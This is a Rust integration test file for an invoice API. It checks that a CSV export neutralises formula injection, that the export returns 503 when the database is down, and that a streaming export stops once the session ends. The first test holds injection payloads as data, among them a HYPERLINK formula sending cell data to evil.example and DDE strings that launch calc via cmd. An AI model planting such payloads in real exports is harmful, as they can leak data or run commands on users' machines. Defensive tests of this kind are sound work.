//! CSV injection (CWE-1236): a spreadsheet program must not execute a cell of an export as a formula.

use std::time::Duration;

use futures_util::StreamExt;
use reqwest::Method;
use serde_json::json;
use sqlx::Executor;

use crate::support::TestApp;
use crate::support::actor::draft;

#[actix_web::test]
async fn export_cells_are_neither_formulas_nor_split() {
    let app = TestApp::start().await;
    let alice = app.user("alice").await;
    let names = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "  =1+1",
        "＝1+1",
        "Acme;=1+1",
        "Acme\",=1+1,\"",
        "Acme,=1+1",
    ];
    for name in names {
        let body = json!({"name": name, "default_currency": "EUR"});
        let customer = alice.post("/api/v1/customers", &body).await.ok(201).json()["id"].as_str().unwrap().to_owned();
        alice.post("/api/v1/invoices", &draft(&customer)).await.ok(201);
    }
    let text = alice.get("/api/v1/invoices/export").await.ok(200).text();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), names.len());
    for (record, name) in records.iter().zip(names) {
        let cell = record.get(6).unwrap();
        assert!(cell == name || cell.strip_prefix('\'') == Some(name), "{cell}");
        for cell in record {
            assert!(!cell.trim_start().starts_with(['=', '+', '-', '@', '＝']), "{cell}");
        }
    }
    // Programs that split cells at semicolons, or do not know doubled quotes, also read this text as one cell.
    assert!(text.contains("\"Acme;=1+1\"") && text.contains("\"Acme\"\",=1+1,\"\"\""), "{text}");
}

/// The service reads the first rows before it sends the status, so it can still respond with 503.
#[actix_web::test]
async fn export_without_a_database_returns_503() {
    let app = TestApp::start().await;
    let alice = app.user("alice").await;
    alice.invoice().await;
    app.database.disconnect().await;
    let reply = alice.request(Method::GET, "/api/v1/invoices/export").send().await;
    reply.assert_refused(503, "unavailable");
    assert!(reply.header("retry-after").is_some());
    app.database.restore().await;
}

/// A thief starts an export with a stolen token, and continues to read after the session has ended.
#[actix_web::test]
async fn export_stops_when_its_session_ends() {
    let app = TestApp::start().await;
    let alice = app.user("alice").await;
    alice.invoice().await;
    // The export is far larger than the socket buffers, so it is still running when the session ends.
    let many = "set session_replication_role = replica;
        insert into invoices (id, owner_id, customer_id, status, currency, subtotal, discount_total, tax_total, total,
            created_at, updated_at)
        select gen_random_uuid(), owner_id, customer_id, 'draft', 'EUR', 0, 0, 0, 0, now() + n * interval '1 ms', now()
        from invoices, generate_series(1, 75000) n";
    app.all_rows.execute(many).await.unwrap();
    for ended in [true, false] {
        let alice = crate::support::Actor::sign_in(&app.anonymous(), &alice.email, &alice.password).await;
        let url = format!("{}/api/v1/invoices/export", app.base);
        let reply = reqwest::Client::new().get(url).bearer_auth(&alice.token).send().await.unwrap();
        assert_eq!(reply.status().as_u16(), 200);
        let mut body = reply.bytes_stream();
        let mut read = body.next().await.unwrap().unwrap().len();
        if ended {
            alice.request(Method::POST, "/api/v1/auth/logout").send().await.ok(204);
            tokio::time::sleep(Duration::from_millis(500)).await;
        }
        let mut interrupted = false;
        while let Some(part) = body.next().await {
            match part {
                Ok(part) => read += part.len(),
                Err(_) => interrupted = true,
            }
        }
        assert_eq!(interrupted, ended, "after {read} bytes");
    }
}
